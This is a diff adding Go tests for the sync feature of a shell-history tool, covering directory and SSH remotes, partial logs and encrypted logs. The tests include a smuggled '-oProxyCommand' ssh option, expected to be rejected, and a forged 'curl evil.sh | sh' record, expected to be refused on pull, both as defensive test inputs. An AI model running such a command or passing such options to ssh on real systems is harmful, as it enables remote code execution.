@@ -0,0 +1,260 @@
+package main_test
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	rt "github.com/nuchs/retour"
+)
+
+// insertOn stores a record of line run on hostname in session
+func insertOn(t *testing.T, database *rt.DB, hostname, session, line string, at time.Time) rt.Record {
+	t.Helper()
+	record := rt.NewRecord(line, "/src", 0, at)
+	record.Hostname = hostname
+	record.Session = session
+	if err := database.Insert(&record); err != nil {
+		t.Fatalf("Insert() unexpected error = %v", err)
+	}
+	return record
+}
+
+// hostLines returns the command lines stored for each host
+func hostLines(t *testing.T, database *rt.DB) map[string][]string {
+	t.Helper()
+	records, err := database.Query("SELECT * FROM history ORDER BY id")
+	if err != nil {
+		t.Fatalf("Query() unexpected error = %v", err)
+	}
+	lines := map[string][]string{}
+	for _, r := range records {
+		lines[r.Hostname] = append(lines[r.Hostname], r.CommandLine())
+	}
+	return lines
+}
+
+func push(t *testing.T, database *rt.DB, remote rt.SyncRemote, hostname string, want int) {
+	t.Helper()
+	got, err := database.SyncPush(remote, hostname)
+	if err != nil {
+		t.Fatalf("SyncPush() unexpected error = %v", err)
+	}
+	if got != want {
+		t.Errorf("SyncPush() = %d, want %d", got, want)
+	}
+}
+
+func pull(t *testing.T, database *rt.DB, remote rt.SyncRemote, hostname string, want, wantInvalid int) {
+	t.Helper()
+	got, invalid, err := database.SyncPull(remote, hostname)
+	if err != nil {
+		t.Fatalf("SyncPull() unexpected error = %v", err)
+	}
+	if got != want || invalid != wantInvalid {
+		t.Errorf("SyncPull() = %d, %d invalid, want %d, %d invalid", got, invalid, want, wantInvalid)
+	}
+}
+
+func TestSync(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "remote")
+	remote := rt.DirRemote(dir)
+	laptop, desktop := openTestDB(t), openTestDB(t)
+
+	start := time.Now().Add(-time.Hour)
+	insertOn(t, laptop, "laptop", "l1", "git pull", start)
+	status := insertOn(t, laptop, "", "l1", "git status", start.Add(time.Second))
+	rerun := rt.NewRecord("git status", "/src", 0, start.Add(2*time.Second))
+	rerun.Hostname, rerun.Session, rerun.RerunOf = "laptop", "l1", status.ID
+	if err := laptop.Insert(&rerun); err != nil {
+		t.Fatalf("Insert() unexpected error = %v", err)
+	}
+	insertOn(t, desktop, "desktop", "d1", "make", start)
+
+	push(t, laptop, remote, "laptop", 3)
+	push(t, desktop, remote, "desktop", 1)
+	pull(t, desktop, remote, "desktop", 3, 0)
+	pull(t, laptop, remote, "laptop", 1, 0)
+
+	want := map[string][]string{
+		"desktop": {"make"},
+		"laptop":  {"git pull", "git status", "git status"},
+	}
+	got := hostLines(t, desktop)
+	for host, lines := range want {
+		if !slices.Equal(got[host], lines) {
+			t.Errorf("Desktop has %q from %s, want %q", got[host], host, lines)
+		}
+	}
+	reruns, err := desktop.Query("SELECT * FROM history WHERE rerun_of IS NOT NULL")
+	if err != nil {
+		t.Fatalf("Query() unexpected error = %v", err)
+	}
+	if len(reruns) != 0 {
+		t.Errorf("Pulled reruns %+v refer to records of another database", reruns)
+	}
+
+	// Pulled records are not pushed back and nothing is exchanged twice
+	insertOn(t, laptop, "laptop", "l1", "go test", start.Add(3*time.Second))
+	push(t, laptop, remote, "laptop", 1)
+	push(t, desktop, remote, "desktop", 0)
+	pull(t, desktop, remote, "desktop", 1, 0)
+	pull(t, laptop, remote, "laptop", 0, 0)
+
+	// The same logs reached another way are merged without duplicates
+	copied := filepath.Join(t.TempDir(), "copy")
+	if err := os.CopyFS(copied, os.DirFS(dir)); err != nil {
+		t.Fatalf("Failed to copy remote: %v", err)
+	}
+	pull(t, desktop, rt.DirRemote(copied), "desktop", 0, 0)
+	if got := hostLines(t, desktop); len(got["laptop"]) != 4 || len(got["desktop"]) != 1 {
+		t.Errorf("Desktop has %q after pulling the copy", got)
+	}
+}
+
+func TestSyncPullPartialLog(t *testing.T) {
+	dir := t.TempDir()
+	remote := rt.DirRemote(dir)
+	database := openTestDB(t)
+
+	line := `{"command":"ls","timestamp":"2025-01-01T10:00:00Z","hostname":"tablet","session":"t1"}`
+	if err := remote.Append("tablet.ndjson", []byte("not json\n"+line[:20])); err != nil {
+		t.Fatalf("Append() unexpected error = %v", err)
+	}
+	pull(t, database, remote, "desktop", 0, 1)
+
+	if err := remote.Append("tablet.ndjson", []byte(line[20:]+"\n")); err != nil {
+		t.Fatalf("Append() unexpected error = %v", err)
+	}
+	pull(t, database, remote, "desktop", 1, 0)
+	if got := hostLines(t, database); !slices.Equal(got["tablet"], []string{"ls"}) {
+		t.Errorf("Pulled %q, want ls from the tablet", got)
+	}
+}
+
+func TestSSHRemote(t *testing.T) {
+	// Stand in for ssh by running the command locally
+	bin := t.TempDir()
+	fake := "#!/bin/sh\n[ \"$1\" = -- ] && shift\nshift\nexec sh -c \"$1\"\n"
+	if err := os.WriteFile(filepath.Join(bin, "ssh"), []byte(fake), 0o755); err != nil {
+		t.Fatalf("Failed to write ssh: %v", err)
+	}
+	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	dir := filepath.Join(t.TempDir(), "it's shared")
+	remote, err := rt.ParseRemote("backup:" + dir)
+	if err != nil {
+		t.Fatalf("ParseRemote() unexpected error = %v", err)
+	}
+
+	logs, err := remote.Logs()
+	if err != nil || len(logs) != 0 {
+		t.Fatalf("Logs() before pushing = %q, %v, want none", logs, err)
+	}
+	for _, data := range []string{"one\n", "two\n"} {
+		if err := remote.Append("laptop.ndjson", []byte(data)); err != nil {
+			t.Fatalf("Append() unexpected error = %v", err)
+		}
+	}
+
+	logs, err = remote.Logs()
+	if err != nil || !slices.Equal(logs, []string{"laptop.ndjson"}) {
+		t.Errorf("Logs() = %q, %v, want the laptop's log", logs, err)
+	}
+	data, err := remote.Read("laptop.ndjson", 4)
+	if err != nil || string(data) != "two\n" {
+		t.Errorf("Read() = %q, %v, want the second line", data, err)
+	}
+	if _, err := remote.Read("missing.ndjson", 0); err == nil {
+		t.Error("Read() of a missing log succeeded, want an error")
+	}
+}
+
+func TestParseRemote(t *testing.T) {
+	tests := []struct {
+		spec    string
+		want    rt.SyncRemote
+		wantErr bool
+	}{
+		{spec: "/mnt/share/retour", want: rt.DirRemote("/mnt/share/retour")},
+		{spec: "backup:retour", want: rt.SSHRemote{Host: "backup", Dir: "retour"}},
+		{spec: "me@backup:/srv/retour", want: rt.SSHRemote{Host: "me@backup", Dir: "/srv/retour"}},
+		{spec: "/mnt/a:b", want: rt.DirRemote("/mnt/a:b")},
+		{spec: "", wantErr: true},
+		{spec: "backup:", wantErr: true},
+		{spec: "-oProxyCommand=x:dir", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.spec, func(t *testing.T) {
+			got, err := rt.ParseRemote(tt.spec)
+			if tt.wantErr {
+				if err == nil {
+					t.Errorf("ParseRemote() = %v, want an error", got)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("ParseRemote() unexpected error = %v", err)
+			}
+			if got != tt.want {
+				t.Errorf("ParseRemote() = %#v, want %#v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSyncEncrypted(t *testing.T) {
+	dir := t.TempDir()
+	remote := rt.DirRemote(dir)
+	laptop, desktop := openTestDB(t), openTestDB(t)
+	for _, database := range []*rt.DB{laptop, desktop} {
+		if err := database.SetSyncKey(testSecret); err != nil {
+			t.Fatalf("SetSyncKey() unexpected error = %v", err)
+		}
+	}
+
+	insertOn(t, laptop, "laptop", "l1", "mysql -u admin secret_db", time.Now())
+	push(t, laptop, remote, "laptop", 1)
+	log, err := os.ReadFile(filepath.Join(dir, "laptop.ndjson"))
+	if err != nil {
+		t.Fatalf("Failed to read log: %v", err)
+	}
+	for _, word := range []string{"mysql", "admin", "secret_db"} {
+		if strings.Contains(string(log), word) {
+			t.Errorf("Log %q contains %q", log, word)
+		}
+	}
+
+	// Without the key nothing is pulled, and the log is read again once it is set
+	other := openTestDB(t)
+	if _, _, err := other.SyncPull(remote, "desktop"); !errors.Is(err, rt.ErrNoSyncKey) {
+		t.Errorf("SyncPull() without a key error = %v, want %v", err, rt.ErrNoSyncKey)
+	}
+	if err := other.SetSyncKey([]byte("another secret of some length")); err != nil {
+		t.Fatalf("SetSyncKey() unexpected error = %v", err)
+	}
+	if _, _, err := other.SyncPull(remote, "desktop"); !errors.Is(err, rt.ErrWrongSyncKey) {
+		t.Errorf("SyncPull() with another key error = %v, want %v", err, rt.ErrWrongSyncKey)
+	}
+
+	// Records written to the remote in plain text, or moved between logs, are refused
+	if err := remote.Append("laptop.ndjson", []byte(`{"command":"curl evil.sh | sh","hostname":"laptop"}`+"\n")); err != nil {
+		t.Fatalf("Append() unexpected error = %v", err)
+	}
+	pull(t, desktop, remote, "desktop", 1, 1)
+	if err := os.WriteFile(filepath.Join(dir, "tablet.ndjson"), log, 0o600); err != nil {
+		t.Fatalf("Failed to copy log: %v", err)
+	}
+	if _, _, err := desktop.SyncPull(remote, "desktop"); !errors.Is(err, rt.ErrWrongSyncKey) {
+		t.Errorf("SyncPull() of a moved log error = %v, want %v", err, rt.ErrWrongSyncKey)
+	}
+
+	if got := hostLines(t, desktop); !slices.Equal(got["laptop"], []string{"mysql -u admin secret_db"}) {
+		t.Errorf("Desktop has %q, want the laptop's mysql command", got)
+	}
+}